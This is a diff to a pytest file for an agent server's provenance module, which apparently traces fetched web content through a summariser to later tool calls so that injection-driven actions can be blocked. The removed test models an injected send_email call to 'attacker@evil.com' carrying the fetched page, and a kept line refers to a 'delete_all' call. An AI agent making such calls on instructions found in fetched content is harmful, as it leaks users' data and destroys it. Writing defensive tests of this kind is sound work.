@@ -3,14 +3,11 @@ from __future__ import annotations
 import json
 
 import pytest
-from lxml import etree
 
 from agentserver.provenance import Mode, Policy, explain
 from agentserver.provenance.approval import digest, question
 from agentserver.provenance.explain import as_data
 from agentserver.provenance.labels import Call, Leaf
-from agentserver.provenance.picture import picture
-from agentserver.provenance.policy import Effect, Rule
 from agentserver.provenance.verdict import Decision
 from tests.provenance.scenes import Scenario
 
@@ -83,19 +80,6 @@ def test_the_data_is_json_with_the_same_facts() -> None:
     assert finding["evidence"]["source"] == "fetch_url"
     assert finding["evidence"]["hops"] == [{"listener": "summariser", "field": "", "step": 2}]
     assert as_data(scene().call("delete_all"))["findings"][0]["role"] is None
-
-
-def test_the_picture_is_well_formed_and_has_a_box_for_each_listener() -> None:
-    verdict = scene(effects=((Rule.LINK, Effect.BLOCK),)).call(
-        "send_email", to="attacker@evil.com", body=PAGE
-    )
-    drawn = etree.fromstring(picture(verdict).encode())
-    texts = [node.text for node in drawn.iter("{*}text")]
-    assert "fetch_url()" in texts
-    assert "summariser" in texts
-    assert any(text and text.startswith("send_email(to)") for text in texts)
-    assert not list(drawn.iter("{*}script"))
-    assert picture(scene().call("delete_all")).startswith("<svg")
 
 
 def test_a_question_binds_to_one_call() -> None:
